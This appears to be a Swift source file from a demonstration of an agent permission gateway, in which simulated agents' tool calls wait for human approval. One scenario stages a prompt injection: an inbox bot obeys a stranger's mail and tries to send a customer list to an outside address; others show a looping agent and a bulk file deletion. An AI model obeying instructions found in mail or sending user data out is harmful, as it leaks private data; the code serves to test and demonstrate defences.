import JSON
import MCP
import SafeText

extension Play {
    /// A loop, an instruction from a mail and a bulk delete, which wait for a person together.
    mutating func threeAtOnce() throws {
        let looping = try stage.decided(try loop())
        let mail = try stage.decided(try obey())
        let delete = try stage.decided(try bulkDelete())
        let holds = ShellWord.line([stage.program, "holds", "--run", stage.folder.run])
        try stage.say("")
        try stage.say("Three questions wait for a person; this lists them: \(holds)")
        let looped = try finish(looping, "list_refunds")
        try stopped(
            "call \(DemonstrationPolicy.loopBudget + 1) of a loop", by: .held(by: "budget"), looped)
        try stopped(
            "a mail that a mail asked for", by: .held(by: "recipient"),
            try finish(mail, "send_mail"))
        try stopped(
            "the deletion of 240 files", by: .held(by: "tier"), try finish(delete, "delete_files"))
    }

    /// The same call over and over, until the run's budget of calls is spent.
    private mutating func loop() throws -> Asked {
        try announce(
            "3. A loop",
            [
                "report-bot asks the bank the same harmless thing again and again.",
                "Loop detection and breakers come later: here the run's budget of calls stops it.",
            ])
        let agent = try stage.connect("report-bot", era: .legacy)
        for _ in 1...DemonstrationPolicy.loopBudget { _ = try mustRun(agent, "list_refunds") }
        return stage.ask(agent, "list_refunds", [])
    }

    /// An instruction that stands in a mail.
    private mutating func obey() throws -> Asked {
        try announce(
            "4. An instruction read from a mail",
            [
                "inbox-bot reads a stranger's mail that tells it what to send, and obeys.",
                "Taint comes later: here it is stopped because nobody has made the recipient known.",
            ])
        let agent = try stage.connect("inbox-bot", era: .modern)
        let read = try mustRun(agent, "read_mail", [("id", .string("m2"))])
        try stage.say("  the mail: \(untrusted: read.text)")
        return stage.ask(
            agent, "send_mail",
            [
                ("to", .string("audit@outside.example")), ("subject", .string("all customers")),
                ("text", .string("C-1 Ada, C-2 Bo, C-17 Cleo")),
            ])
    }

    /// Everything that is in a folder, in one call.
    private mutating func bulkDelete() throws -> Asked {
        try announce(
            "5. A bulk delete",
            [
                "cleanup-bot wants to free some space: all reports of a year, in one call.",
                "Deleting is of tier high, which asks a person on every rung.",
            ])
        let agent = try stage.connect("cleanup-bot", era: .legacy)
        let listed = try mustRun(agent, "list_files")
        let paths = listed.text.split(separator: "\n").map { JSONValue.string(String($0)) }
        return stage.ask(agent, "delete_files", [("paths", .array(paths))])
    }
}
